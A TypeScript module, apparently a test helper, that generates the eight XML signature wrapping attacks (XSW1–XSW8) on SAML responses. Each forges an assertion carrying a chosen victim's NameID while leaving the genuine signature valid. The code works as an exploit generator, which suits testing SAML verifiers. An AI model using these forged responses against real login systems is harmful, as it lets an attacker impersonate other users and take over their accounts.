/**
 * Builds the eight forms of signature wrapping by Somorovsky et al. (USENIX Security 2012) from a genuinely signed
 * response.
 */
import { DOMParser, type Element, XMLSerializer } from '@xmldom/xmldom';

const DSIG = 'http://www.w3.org/2000/09/xmldsig#';
const SAMLP = 'urn:oasis:names:tc:SAML:2.0:protocol';

export type Wrapping = {
  name: string;
  signed: 'response' | 'assertion';
  wrap: (signed: string, victim: string) => string;
};

/**
 * `wrap` returns a message in which the signature still covers its original content, but from which a careless parser
 * reads the victim's name.
 */
export const WRAPPINGS: readonly Wrapping[] = [
  {
    name: 'XSW1: the signed response in the signature of a forged one',
    signed: 'response',
    wrap: aroundResponse('inside'),
  },
  {
    name: 'XSW2: the signed response before its signature in a forged one',
    signed: 'response',
    wrap: aroundResponse('before'),
  },
  {
    name: 'XSW3: a forged assertion before the signed one',
    signed: 'assertion',
    wrap: withAssertion(({ original, forged }) => void original.parentNode?.insertBefore(forged, original)),
  },
  {
    name: 'XSW4: the signed assertion inside a forged one',
    signed: 'assertion',
    wrap: withAssertion(({ original, forged }) => {
      original.parentNode?.replaceChild(forged, original);
      forged.appendChild(original);
    }),
  },
  {
    name: 'XSW5: the signature in a forged assertion, the signed one behind it',
    signed: 'assertion',
    wrap: withAssertion(({ original, forged, signature }) => {
      original.parentNode?.insertBefore(forged, original);
      forged.insertBefore(signature, forged.firstChild?.nextSibling ?? null);
    }),
  },
  {
    name: 'XSW6: the signed assertion in the signature of a forged one',
    signed: 'assertion',
    wrap: withAssertion(({ original, forged, signature }) => {
      original.parentNode?.replaceChild(forged, original);
      signature.parentNode?.removeChild(signature);
      forged.insertBefore(signature, forged.firstChild?.nextSibling ?? null);
      signature.appendChild(original);
    }),
  },
  {
    name: 'XSW7: a forged assertion of the same id in Extensions',
    signed: 'assertion',
    wrap: withAssertion(({ original, forged }) => {
      const extensions = original.ownerDocument?.createElementNS(SAMLP, 'samlp:Extensions');
      if (!extensions) throw new Error('There is no document.');
      original.parentNode?.insertBefore(extensions, original);
      extensions.appendChild(forged);
      forged.setAttribute('ID', original.getAttribute('ID') ?? '');
    }),
  },
  {
    name: 'XSW8: the signed assertion in an Object of the signature of a forged one',
    signed: 'assertion',
    wrap: withAssertion(({ original, forged, signature }) => {
      original.parentNode?.replaceChild(forged, original);
      signature.parentNode?.removeChild(signature);
      forged.insertBefore(signature, forged.firstChild?.nextSibling ?? null);
      const object = signature.ownerDocument?.createElementNS(DSIG, 'ds:Object');
      if (!object) throw new Error('There is no document.');
      signature.appendChild(object);
      object.appendChild(original);
    }),
  },
];

type Parts = { original: Element; forged: Element; signature: Element };

function first(root: Element, name: string): Element {
  const found = root.getElementsByTagNameNS('*', name)[0];
  if (!found) throw new Error(`The response has no ${name}.`);
  return found;
}

function parse(text: string): Element {
  const root = new DOMParser().parseFromString(text, 'text/xml').documentElement;
  if (!root) throw new Error('There is no response.');
  return root;
}

function forge(assertion: Element, victim: string): void {
  assertion.setAttribute('ID', '_forged');
  first(assertion, 'NameID').textContent = victim;
}

function withAssertion(arrange: (parts: Parts) => void) {
  return (text: string, victim: string): string => {
    const root = parse(text);
    const original = first(root, 'Assertion');
    const forged = original.cloneNode(true) as Element;
    forged.removeChild(first(forged, 'Signature'));
    forge(forged, victim);
    arrange({ original, forged, signature: first(original, 'Signature') });
    return new XMLSerializer().serializeToString(root);
  };
}

function aroundResponse(place: 'inside' | 'before') {
  return (text: string, victim: string): string => {
    const root = parse(text);
    const signature = first(root, 'Signature');
    const original = root.cloneNode(true) as Element;
    original.removeChild(first(original, 'Signature'));
    root.setAttribute('ID', '_forged-response');
    forge(first(root, 'Assertion'), victim);
    if (place === 'inside') {
      const object = signature.ownerDocument?.createElementNS(DSIG, 'ds:Object');
      if (!object) throw new Error('There is no document.');
      signature.appendChild(object);
      object.appendChild(original);
    } else {
      root.insertBefore(original, signature);
    }
    return new XMLSerializer().serializeToString(root);
  };
}
